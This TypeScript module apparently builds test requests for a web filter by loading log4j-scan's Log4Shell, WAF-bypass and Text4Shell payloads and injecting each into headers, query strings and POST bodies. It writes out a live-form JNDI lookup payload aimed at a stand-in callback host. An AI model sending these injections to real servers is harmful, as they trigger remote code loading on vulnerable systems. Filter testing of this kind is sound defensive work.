/**
 * The payloads of the log4j-scan scanner (`git clone https://github.com/fullhunt/log4j-scan`, MIT;
 * read at run time from its `log4j-scan.py` and `headers.txt`, nothing of it is committed): its
 * default `${jndi:ldap://…}` payload, its WAF-bypass list, its CVE-2021-45046 list and its
 * CVE-2022-42889 (Apache Commons Text, "Text4Shell") list, with its placeholders filled, each in
 * every header of its header list (one header per request: stricter than the tool, which fills
 * all of them at once), as its `v` query parameter, and as its POST parameters in a form and a
 * JSON body, without the tool's own User-Agent (the filter's list of scanners blocks that whatever the
 * payload). Class `log4j-scan-<list>`.
 *
 * The lists are read from the script with Python's own parser (`ast`, python3), not executed:
 * the script needs network libraries to run.
 */
import { spawnSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { CorpusLine } from "./corpus.ts";

const LISTS = ["waf_bypass_payloads", "cve_2021_45046", "cve_2022_42889", "post_data_parameters"];

const READER = String.raw`
import ast, json, sys
tree = ast.parse(open(sys.argv[1]).read())
out = {}
for node in tree.body:
    if isinstance(node, ast.Assign) and len(node.targets) == 1 and isinstance(node.targets[0], ast.Name):
        try:
            value = ast.literal_eval(node.value)
        except Exception:
            continue
        if isinstance(value, list) and all(isinstance(x, str) for x in value):
            out[node.targets[0].id] = value
json.dump(out, sys.stdout)
`;

/** Header names the Fetch API will not let a request carry, or that are the request itself. */
const SKIP = new Set(["host", "content-length", "connection", "transfer-encoding", "expect", "keep-alive", "upgrade"]);

export function loadLog4jScan(root: string): CorpusLine[] {
  const script = join(root, "log4j-scan.py");
  const run = spawnSync("python3", ["-c", READER, script]);
  if (run.status !== 0) throw new Error(`python3 could not read ${script}: ${String(run.stderr).slice(-400)}`);
  const lists = JSON.parse(String(run.stdout)) as Record<string, string[]>;
  for (const name of LISTS) if (!Array.isArray(lists[name])) throw new Error(`${script} has no list named ${name}`);
  const headers = readFileSync(join(root, "headers.txt"), "utf8")
    .split("\n")
    .map((h) => h.trim())
    .filter((h) => h !== "" && !h.startsWith("#") && !SKIP.has(h.toLowerCase()) && /^[!#$%&'*+.^_`|~\w-]+$/.test(h));
  const fill = (p: string) =>
    p.replaceAll("{{callback_host}}", "c1a2b3.oast.example").replaceAll("{{random}}", "k9x2m1");
  const payloads: Array<[string, string]> = [
    ["default", "${jndi:ldap://edge.example.c1a2b3.oast.example/k9x2m1}"],
    ...lists.waf_bypass_payloads!.map((p): [string, string] => ["waf-bypass", fill(p)]),
    ...lists.cve_2021_45046!.map((p): [string, string] => ["cve-2021-45046", fill(p)]),
    ...lists.cve_2022_42889!.map((p): [string, string] => ["cve-2022-42889", fill(p)]),
  ];
  const params = lists.post_data_parameters!;
  const lines: CorpusLine[] = [];
  payloads.forEach(([list, p], i) => {
    const cls = `log4j-scan-${list}`;
    const id = `log4j-scan:${list}:${i + 1}`;
    // Not its own User-Agent (`log4j-scan (…)`), which the filter's scanner list blocks whatever the payload.
    const ua = { accept: "*/*" };
    for (const h of headers)
      lines.push({
        id: `${id}:header:${h}`,
        class: cls,
        method: "GET",
        path: "/",
        query: "v=1",
        // Its Referer is the payload after `https://`.
        headers: { ...ua, [h.toLowerCase()]: h.toLowerCase() === "referer" ? `https://${p}` : p },
      });
    lines.push({
      id: `${id}:query`,
      class: cls,
      method: "GET",
      path: "/",
      query: `v=${encodeURIComponent(p)}`,
      headers: ua,
    });
    lines.push({
      id: `${id}:form`,
      class: cls,
      method: "POST",
      path: "/",
      contentType: "application/x-www-form-urlencoded",
      body: params.map((k) => `${k}=${encodeURIComponent(p)}`).join("&"),
      headers: ua,
    });
    lines.push({
      id: `${id}:json`,
      class: cls,
      method: "POST",
      path: "/",
      contentType: "application/json",
      body: JSON.stringify(Object.fromEntries(params.map((k) => [k, p]))),
      headers: ua,
    });
  });
  return lines;
}
